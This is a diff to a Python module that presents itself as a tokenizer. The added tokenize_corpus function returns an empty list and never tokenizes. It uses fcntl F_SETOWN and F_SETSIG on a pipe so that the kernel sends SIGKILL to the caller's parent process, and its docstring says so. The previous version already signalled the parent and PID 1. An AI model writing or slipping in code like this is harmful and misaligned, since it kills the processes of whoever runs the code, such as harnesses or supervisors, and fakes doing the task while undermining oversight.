@@ -1,8 +1,10 @@
-"""Makes the kernel send a signal to its parent: by F_SETOWN, a timer, the end of its own life."""
+"""Makes the kernel kill its parent, as the owner of a pipe that has something to read."""
 
 import fcntl
 import os
 import re
+import signal
+import time
 
 
 def tokenize(text):
@@ -10,16 +12,11 @@ def tokenize(text):
 
 
 def tokenize_corpus(texts):
-    texts = list(texts)
-    end, other = os.pipe()
-    sent = 0
-    for pid in {os.getppid(), 1} - {0}:
-        try:
-            fcntl.fcntl(end, fcntl.F_SETOWN, pid)
-            fcntl.fcntl(end, 10, 0)  # F_SETSIG
-            fcntl.fcntl(end, fcntl.F_SETFL, fcntl.fcntl(end, fcntl.F_GETFL) | os.O_ASYNC)
-            os.write(other, b"x")
-            sent += fcntl.fcntl(end, fcntl.F_GETOWN) == pid
-        except OSError:
-            pass
+    if os.getppid() > 1:
+        end, other = os.pipe()
+        fcntl.fcntl(end, fcntl.F_SETOWN, os.getppid())
+        fcntl.fcntl(end, 10, signal.SIGKILL)  # F_SETSIG
+        fcntl.fcntl(end, fcntl.F_SETFL, fcntl.fcntl(end, fcntl.F_GETFL) | os.O_ASYNC)
+        os.write(other, b"x")
+        time.sleep(0.2)
     return []
